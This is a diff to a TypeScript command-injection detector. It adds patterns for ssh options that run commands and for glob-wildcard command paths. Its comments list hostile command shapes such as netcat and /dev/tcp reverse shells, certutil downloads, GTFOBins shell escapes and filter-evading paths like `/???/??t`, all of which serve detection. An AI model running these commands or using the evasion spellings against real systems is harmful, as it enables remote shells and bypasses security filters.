@@ -3,7 +3,8 @@
  * (`cmd /c`, `for /f ... do`, `net user`, `reg add HKLM\...`, `netsh advfirewall`, `powershell -enc`,
  * `certutil -urlcache`), a whole value that is a Unix command line (`uname -a`, `whoami`, `perl -e '...'`,
  * `nc -e /bin/sh 10.0.0.1 4444`), and GTFOBins-style invocations anywhere (`bash -i >& /dev/tcp/...`,
- * `find . -exec /bin/sh \;`, `awk 'BEGIN {system("/bin/sh")}'`, `tar --checkpoint-action=exec=...`).
+ * `find . -exec /bin/sh \;`, `awk 'BEGIN {system("/bin/sh")}'`, `tar --checkpoint-action=exec=...`), ssh options
+ * that run a command (`-oProxyCommand=id`) and command paths spelled with glob wildcards (`/???/??t`).
  * Used by the cmdi detector; every pattern is a fixed shape with bounded gaps.
  */
 import { CH, mayBeRegexSpace } from './char-classes.js';
@@ -154,4 +155,67 @@ export function startsWithCommandWord(s: string): boolean {
   const length = i - start;
   if (length < 2 || length > LONGEST_COMMAND_WORD || !COMMAND_WORD_SHAPES.has((length << 16) | (c0 << 8) | c1)) return false;
   return COMMAND_LINE_WORDS.has(s.slice(start, i).toLowerCase());
+}
+
+/**
+ * `-oProxyCommand=...`, `-o LocalCommand=...`: ssh and scp options that run a local command. A value handed to
+ * `ssh`/`scp`/`git` as an argument needs no shell separator to run it (argument injection). The option starts the
+ * value or follows white space, a quote or `=`: `foo-oProxyCommand` is no option, "use the -o flag" names none.
+ */
+export const SSH_COMMAND_OPTION = /(?:^|[\s"'=])-o[ \t]{0,4}["']?(?:proxycommand|localcommand|knownhostscommand)[ \t]{0,4}=/;
+
+/** Characters of a glob-spelled path: letters, digits, `.`, `_`, `-`, the separator `/` and the wildcards `?*[]`. */
+function isGlobPathChar(c: number): boolean {
+  return (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 47 || c === 63 || c === 42 || c === 91 || c === 93 || c === 46 || c === 95 || c === 45;
+}
+
+/** What may end a command path: the end, white space, a shell separator, a redirection or a closing `)`. */
+function endsCommandPath(c: number): boolean {
+  return Number.isNaN(c) || c === 32 || c === 9 || c === 10 || c === 13 || c === 59 || c === 124 || c === 38 || c === 96 || c === 41 || c === 60 || c === 62;
+}
+
+/** Longest glob-spelled command path read (`/???/???/??????`); longer runs are no evasion of a command path. */
+const MAX_GLOB_PATH = 48;
+
+/** Bits of `globCommandPath`'s answer. */
+export const GLOB_PATH = {
+  /** A `?`, `[` or a `*` between letters or digits (`c*t`), not as the path's last character (`/api/v1?`). */
+  wildcard: 1,
+  /** The first segment has a `?` (`/???/`, `/b??/`): no URL path or file glob starts so; a command path does. */
+  firstSegmentQuestion: 2,
+} as const;
+
+/**
+ * A command path spelled with glob wildcards at `at` (a `/`), as filter evasions write `/bin/cat` without `cat`:
+ * `/???/??t`, `/b??/c?t`, `/usr/bin/c*t`. The shell expands it to the one file it matches and runs that. Two to four
+ * segments of at most 12 characters each (`isGlobPathChar`), ended by `endsCommandPath`; returns `GLOB_PATH` bits
+ * (0: no such path, or one without a wildcard). Reads at most MAX_GLOB_PATH characters.
+ */
+export function globCommandPath(s: string, at: number): number {
+  if (s.charCodeAt(at) !== 47) return 0;
+  let bits = 0;
+  let segments = 0;
+  let segmentLength = 0;
+  let i = at + 1;
+  for (; i < s.length && i - at <= MAX_GLOB_PATH; i++) {
+    const c = s.charCodeAt(i);
+    if (!isGlobPathChar(c)) break;
+    if (c === 47) {
+      if (segmentLength === 0) return 0; // `//`: no command path
+      segments++;
+      segmentLength = 0;
+      continue;
+    }
+    if (++segmentLength > 12) return 0;
+    const last = endsCommandPath(s.charCodeAt(i + 1));
+    if ((c === 63 || c === 91) && !last) bits |= GLOB_PATH.wildcard | (segments === 0 && c === 63 ? GLOB_PATH.firstSegmentQuestion : 0);
+    else if (c === 42 && isAlnum(s.charCodeAt(i - 1)) && isAlnum(s.charCodeAt(i + 1))) bits |= GLOB_PATH.wildcard;
+  }
+  if (segmentLength === 0 || !endsCommandPath(s.charCodeAt(i))) return 0;
+  segments++;
+  return segments >= 2 && segments <= 4 ? bits : 0;
+}
+
+function isAlnum(c: number): boolean {
+  return (c >= 97 && c <= 122) || (c >= 48 && c <= 57);
 }
